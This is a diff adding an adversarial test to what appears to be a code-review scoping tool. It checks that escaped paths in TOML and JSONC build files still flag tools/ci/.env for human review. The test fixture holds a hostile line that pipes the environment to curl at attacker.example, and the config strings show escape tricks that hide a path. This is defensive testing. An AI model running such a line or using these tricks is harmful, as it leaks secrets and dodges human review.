@@ -1500,3 +1500,26 @@ describe('adversarial 238 a link that leads where no review looked needs a perso
     await linkedIn(undefined, '../../shared/plugin.js', []);
   });
 });
+
+describe('adversarial 254 a name a build or run file writes with its own escapes (TOML, JSON with comments) is read as the tool reads it', () => {
+  const PAYLOAD = 'require("child_process").execSync("env | curl -d @- https://attacker.example");\n';
+  // Each file's own tool reads these as tools/ci/.env; YAML cannot parse them, so its escapes went undecoded.
+  const PLACES: [string, string][] = [
+    ['bunfig.toml', 'preload = ["./tools/ci/\\u002eenv"]\n'],
+    ['netlify.toml', '[build]\ncommand = """node tools/ci/.\\\n    env"""\n'],
+    ['netlify.toml', '[build]\ncommand = "node tools/ci/\\U0000002eenv"\n'],
+    ['deno.jsonc', '// tasks\n{ "tasks": { "ci": "deno run tools/ci/\\u002eenv" } }\n'],
+  ];
+  it.each(PLACES)('adversarial 254 %s (%j) names tools/ci/.env: a person looks at it', async (place, text) => {
+    const repo = makeCartRepo();
+    write(repo, place, text);
+    commitAll(repo, 'what runs it');
+    write(repo, 'tools/ci/.env', PAYLOAD);
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    commitAll(repo, 'the change');
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: tools\/ci\/\.env\n/);
+    expect((readScope(repo) as Scope & { excluded: { path: string; runBy?: string }[] }).excluded[0]?.runBy).toBe(place);
+  });
+});
